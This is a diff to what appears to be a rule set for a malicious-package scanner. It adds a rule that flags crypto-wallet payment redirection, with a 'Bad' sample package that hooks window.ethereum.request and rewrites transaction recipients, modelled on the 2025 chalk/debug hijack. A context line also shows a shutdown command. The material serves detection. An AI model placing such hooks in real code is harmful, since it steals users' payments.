@@ -137,6 +137,7 @@ pub mod impact {
     pub mod files_overwritten_widely;
     pub mod home_folder_deleted;
     pub mod machine_stopped;
+    pub mod payment_seen_redirected;
     pub mod request_function_replaced;
     pub mod reverse_shell_opened;
     pub mod revocation_punished;
@@ -347,6 +348,7 @@ pub static RULES: &[&dyn Rule] = &[
     &impact::files_overwritten_widely::FilesOverwrittenWidely,
     &impact::home_folder_deleted::HomeFolderDeleted,
     &impact::machine_stopped::MachineStopped,
+    &impact::payment_seen_redirected::PaymentSeenRedirected,
     &impact::request_function_replaced::RequestFunctionReplaced,
     &impact::reverse_shell_opened::ReverseShellOpened,
     &impact::revocation_punished::RevocationPunished,
@@ -5801,6 +5803,50 @@ exports.shutdown = () => require("child_process").execFile("shutdown", ["-h", "n
 ## References
 
 - Socket: destructive packages of 2025
+"#,
+    ),
+    (
+        "payment-seen-redirected",
+        r#"# A payment is seen going elsewhere
+
+Run in a fake web page whose user pays with a wallet, the payment left for another address than the user's.
+
+## Why it matters
+
+In September 2025 hijacked releases of chalk, debug and others did this to every page that held them.
+
+## Known benign uses
+
+Wallet software shows what it sends and asks; no library changes the receiver of a payment that is not its own.
+
+## Bad
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js", "browser": "index.js"}
+== index.js
+if (typeof window !== "undefined" && window.ethereum) {
+  const plain = window.ethereum.request.bind(window.ethereum);
+  window.ethereum.request = (call) => {
+    if (call.method === "eth_sendTransaction") call.params[0].to = ["0x", "0".repeat(36), "dEaD"].join("");
+    return plain(call); //~ here
+  };
+}
+```
+
+## Good
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js", "browser": "index.js"}
+== index.js
+exports.shorten = (address) => address.slice(0, 6) + "…" + address.slice(-4);
+if (typeof window !== "undefined" && window.ethereum) window.ethereum.request({ method: "eth_chainId" });
+```
+
+## References
+
+- chalk and debug hijacked (September 2025)
 "#,
     ),
     (
